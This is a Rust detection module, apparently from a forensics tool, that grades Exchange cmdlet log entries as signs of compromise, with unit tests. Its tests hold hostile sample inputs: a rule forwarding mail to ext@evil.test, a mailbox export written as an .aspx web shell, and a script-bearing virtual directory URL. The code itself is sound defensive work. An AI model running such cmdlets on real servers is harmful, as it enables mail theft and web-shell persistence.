//! Which Exchange cmdlets keep an intruder's access or read mail, judged
//! from the cmdlet name and its parameters: one classifier for the
//! CmdletInfra cmdlet logs and the MSExchange Management event log.
//!
//! Attackers who got in through ProxyShell, ProxyNotShell or OWASSRF ran
//! Exchange's own cmdlets: inbox rules that forward or delete mail,
//! mailbox exports, permission and role grants, transport rules that
//! copy mail out, transport agents, and virtual directory URLs carrying
//! script. The shapes only an intruder has reason for are graded
//! `compromised`; changes an administrator also makes (a mailbox
//! permission, a role grant, an export to a share) are `attempt`, to be
//! reviewed with who ran them and from where.

use vigie_model::Grade;

/// What a cmdlet run looks like.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Judged {
    /// Why it was kept, for the summary.
    pub why: &'static str,
    /// Grade when it ran successfully.
    pub grade: Grade,
    /// ATT&CK technique ids.
    pub attack: &'static [&'static str],
}

/// Words (lower case) one of which every cmdlet [`classify`] keeps holds:
/// the EVTX reader renders only records holding one of them.
pub const NEEDLES: &[&str] = &[
    "-inboxrule",
    "-mailboxexportrequest",
    "-managementroleassignment",
    "add-mailboxpermission",
    "add-recipientpermission",
    "add-adpermission",
    "-transportrule",
    "virtualdirectory",
    "-transportagent",
    "set-mailbox",
];

const FORWARD: &[&str] = &["forwardto", "forwardasattachmentto", "redirectto"];
const HIDE: &[&str] = &["deletemessage", "softdeletemessage"];
const HIDDEN_FOLDERS: &[&str] =
    &["rss", "deleted items", "junk", "conversation history", "archive"];
const WEB_FOLDERS: &[&str] = &[
    ".aspx",
    ".ashx",
    ".asmx",
    "inetpub",
    "aspnet_client",
    "frontend\\httpproxy",
    "clientaccess\\",
];
const SCRIPT: &[&str] = &["<script", "javascript:", "runat=", "<%"];

fn any(hay: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| hay.contains(n))
}

/// Judge one cmdlet run; `None` for cmdlets that keep no access.
pub fn classify(cmdlet: &str, params: &str) -> Option<Judged> {
    let name = cmdlet.trim().to_ascii_lowercase();
    let p = params.to_ascii_lowercase();
    fn j(
        why: &'static str,
        grade: Grade,
        attack: &'static [&'static str],
    ) -> Option<Judged> {
        Some(Judged { why, grade, attack })
    }
    match name.as_str() {
        "new-inboxrule" | "set-inboxrule" => {
            if any(&p, FORWARD) {
                j(
                    "inbox rule forwards or redirects mail",
                    Grade::Compromised,
                    &["T1114.003"],
                )
            } else if any(&p, HIDE)
                || (p.contains("movetofolder") && any(&p, HIDDEN_FOLDERS))
            {
                j(
                    "inbox rule deletes or hides mail",
                    Grade::Compromised,
                    &["T1564.008"],
                )
            } else {
                None
            }
        }
        "set-mailbox"
            if p.contains("forwardingsmtpaddress")
                || p.contains("forwardingaddress") =>
        {
            j("mailbox forwarding set", Grade::Attempt, &["T1114.003"])
        }
        "new-mailboxexportrequest" if any(&p, WEB_FOLDERS) => j(
            "mailbox exported into a web folder (a web shell)",
            Grade::Compromised,
            &["T1505.003", "T1114.002"],
        ),
        "new-mailboxexportrequest" => {
            j("mailbox exported to a file", Grade::Attempt, &["T1114.002"])
        }
        "new-managementroleassignment"
            if p.contains("mailbox import export")
                || p.contains("applicationimpersonation") =>
        {
            j(
                "mailbox export or impersonation role granted",
                Grade::Attempt,
                &["T1098"],
            )
        }
        "add-mailboxpermission" if p.contains("fullaccess") => j(
            "full access to a mailbox granted",
            Grade::Attempt,
            &["T1098.002"],
        ),
        "add-recipientpermission" => {
            j("send-as on a mailbox granted", Grade::Attempt, &["T1098.002"])
        }
        "add-adpermission"
            if p.contains("send-as")
                || p.contains("receive-as")
                || p.contains("impersonation") =>
        {
            j("mailbox rights granted in AD", Grade::Attempt, &["T1098.002"])
        }
        "new-transportrule" | "set-transportrule"
            if p.contains("blindcopyto")
                || p.contains("redirectmessageto")
                || p.contains("copyto")
                || p.contains("addtorecipients") =>
        {
            j(
                "transport rule copies or redirects mail",
                Grade::Attempt,
                &["T1114.003"],
            )
        }
        "install-transportagent" | "enable-transportagent" => {
            if p.contains("assemblypath") && !p.contains("\\exchange server\\")
            {
                j(
                    "transport agent installed from outside the Exchange folder",
                    Grade::Compromised,
                    &["T1505.002"],
                )
            } else {
                j(
                    "transport agent installed or enabled",
                    Grade::Attempt,
                    &["T1505.002"],
                )
            }
        }
        n if n.ends_with("virtualdirectory")
            && (n.starts_with("set-") || n.starts_with("new-"))
            && any(&p, SCRIPT) =>
        {
            j(
                "script written into a virtual directory setting",
                Grade::Compromised,
                &["T1505.003"],
            )
        }
        _ => None,
    }
}

/// The grade of a run: a cmdlet that failed proves intent, not access.
pub fn grade(j: &Judged, succeeded: Option<bool>) -> Grade {
    match succeeded {
        Some(false) => j.grade.min(Grade::Attempt),
        _ => j.grade,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forwarding_and_hiding_rules_are_kept_plain_rules_are_not() {
        let fwd =
            classify("New-InboxRule", "-Name x -ForwardTo ext@evil.test");
        assert_eq!(fwd.unwrap().grade, Grade::Compromised);
        let hide =
            classify("Set-InboxRule", "-MoveToFolder 'Alice:\\RSS Feeds'");
        assert_eq!(hide.unwrap().why, "inbox rule deletes or hides mail");
        assert!(
            classify("New-InboxRule", "-MoveToFolder Projects -From bob")
                .is_none()
        );
        assert!(classify("Get-InboxRule", "-Mailbox alice").is_none());
    }

    #[test]
    fn exports_grants_agents_and_vdirs_are_graded() {
        let web = classify(
            "New-MailboxExportRequest",
            "-FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx",
        );
        assert_eq!(web.unwrap().grade, Grade::Compromised);
        let share = classify(
            "New-MailboxExportRequest",
            "-FilePath \\\\fs\\pst\\a.pst",
        );
        assert_eq!(share.unwrap().grade, Grade::Attempt);
        let agent = classify(
            "Install-TransportAgent",
            "-AssemblyPath C:\\ProgramData\\x.dll -Name y",
        );
        assert_eq!(agent.unwrap().grade, Grade::Compromised);
        let vdir = classify(
            "Set-OwaVirtualDirectory",
            "-ExternalUrl 'https://x/<script>alert(1)</script>'",
        );
        assert_eq!(vdir.unwrap().attack, ["T1505.003"]);
        assert!(
            classify("Set-OwaVirtualDirectory", "-ExternalUrl https://mail.x")
                .is_none()
        );
        let j = classify("Add-MailboxPermission", "-AccessRights FullAccess")
            .unwrap();
        assert_eq!(grade(&j, Some(false)), Grade::Attempt);
    }

    /// Regression guard: a kept cmdlet whose name holds no needle would
    /// never be rendered from an EVTX file.
    #[test]
    fn every_kept_cmdlet_holds_a_needle() {
        for name in [
            "new-inboxrule",
            "set-inboxrule",
            "set-mailbox",
            "new-mailboxexportrequest",
            "new-managementroleassignment",
            "add-mailboxpermission",
            "add-recipientpermission",
            "add-adpermission",
            "new-transportrule",
            "set-transportrule",
            "install-transportagent",
            "enable-transportagent",
            "set-owavirtualdirectory",
        ] {
            assert!(NEEDLES.iter().any(|n| name.contains(n)), "{name}");
        }
    }
}
